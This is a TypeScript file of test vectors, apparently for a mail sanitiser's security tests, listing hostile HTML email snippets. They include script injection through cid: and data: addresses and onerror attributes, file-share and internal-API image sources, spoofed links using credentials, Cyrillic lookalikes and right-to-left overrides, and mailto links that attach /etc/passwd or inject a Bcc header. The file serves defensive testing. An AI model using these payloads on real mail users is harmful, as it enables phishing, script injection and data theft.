import { vectorsOf } from '../vector.ts'

/** Parts of the mail that are not what they seem, and links that lead elsewhere. */
export const deceit = vectorsOf('deceit', {
  'cid breaks out': '<img src="cid:x&quot; onerror=&quot;{js}">',
  'cid with a bracket': '<img src="cid:x><script>{js}</script>">',
  'cid that is a scheme': '<img src="cid:javascript:{js}">',
  'cid with a path': '<img src="cid:../../../api/v1/me">',
  'cid percent encoded': '<img src="cid:%22%20onerror%3D%22{js}">',
  'cid as link': '<a href="cid:x">x</a>',
  'cid of a page': '<img src="cid:page@hostile"><iframe src="cid:page@hostile"></iframe>',
  'mid as link': '<a href="mid:x@{host}">x</a>',
  'picture that is a page': '<img src="data:text/html;base64,{b64}">',
  'picture with a second type': '<img src="data:image/png,text/html;base64,{b64}">',
  'picture that is not one': '<img src="data:image/png;base64,{b64}" onerror="{js}">',
  'picture address with quotes': `<img src="https://{host}/x.png?'&quot; onerror={js} x=">`,
  'picture address with spaces': '<img src="https://{host}/x.png onerror={js}">',
  'picture by file share':
    '<img src="\\\\{host}\\share\\x.png"><img src="file://{host}/share/x.png">',
  'picture at our own address':
    '<img src="/api/v1/mail-pictures?token=x"><img src="/api/v1/setup">',
  'link with another name': '<a href="https://{host}/">https://shop.example/account</a>',
  'link with credentials': '<a href="https://shop.example@{host}/">shop.example</a>',
  'link with a password': '<a href="https://shop.example:443@{host}/">sign in</a>',
  'link with backslash': '<a href="https://shop.example\\@{host}/">shop.example</a>',
  'link in cyrillic': '<a href="https://\u0430pple.example/">\u0430pple.example</a>',
  'link with a turned text': '<a href="https://{host}/">\u202eelpmaxe.pohs</a>',
  'link with a title': '<a href="https://{host}/" title="https://shop.example/">shop</a>',
  'link around a link':
    '<a href="https://shop.example/">a<a href="https://{host}/">https://shop.example/</a></a>',
  'link with much space': `<a href="https://shop.example${'%20'.repeat(300)}@{host}/">x</a>`,
  'mail link with a body': '<a href="mailto:x@{host}?attach=/etc/passwd&body=x">x@shop.example</a>',
  'mail link with line breaks':
    '<a href="mailto:x@shop.example?subject=a%0d%0aBcc:%20y@{host}">x</a>',
})
